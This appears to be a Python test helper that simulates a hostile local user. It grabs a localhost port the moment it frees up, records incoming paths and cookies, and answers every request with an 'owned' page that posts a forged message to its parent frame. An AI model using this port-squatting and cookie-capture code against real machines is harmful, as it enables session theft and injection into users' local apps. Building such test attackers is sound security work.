"""Another user of the machine, who takes a port as soon as it is free and writes down who comes.

Run as root, this becomes another user first. Each line of output is JSON: ``{"taken": true}``, then
one object for each request.
"""

from __future__ import annotations

import json
import os
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import TCPServer

NOBODY = 65534

PAGE = b"""<!doctype html><title>owned</title><script>
parent.postMessage({ browserCell: { hello: "greeted/" + location.pathname.split("/")[3] } }, "*");
top.document.title = "owned";
</script>"""


def tell(what: dict[str, object]) -> None:
    """Write a line, in one piece: several requests are answered at a time."""
    sys.stdout.write(f"{json.dumps(what)}\n")
    sys.stdout.flush()


class Attack(BaseHTTPRequestHandler):
    """Answers everything with a page that would do harm."""

    def do_GET(self) -> None:
        upgrade = self.headers.get("Upgrade")
        told = {"path": self.path, "cookie": self.headers.get("Cookie"), "upgrade": upgrade}
        tell(told)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(PAGE)

    do_HEAD = do_POST = do_OPTIONS = do_GET

    def log_message(self, *args: object) -> None:
        pass


class Server(ThreadingHTTPServer):
    """Takes no port that somebody else listens on."""

    daemon_threads = True

    def server_bind(self) -> None:
        """Bind, and look up no names, for which the other user might miss files."""
        TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]


def take(port: int) -> Server:
    while True:
        try:
            return Server(("127.0.0.1", port), Attack)
        except OSError:
            time.sleep(0.002)


def main() -> None:
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    server = take(int(sys.argv[1]))
    tell({"taken": True, "uid": os.getuid()})
    threading.Thread(target=server.serve_forever).start()
    # Until whoever started this lets go.
    sys.stdin.read()
    server.shutdown()


if __name__ == "__main__":
    main()
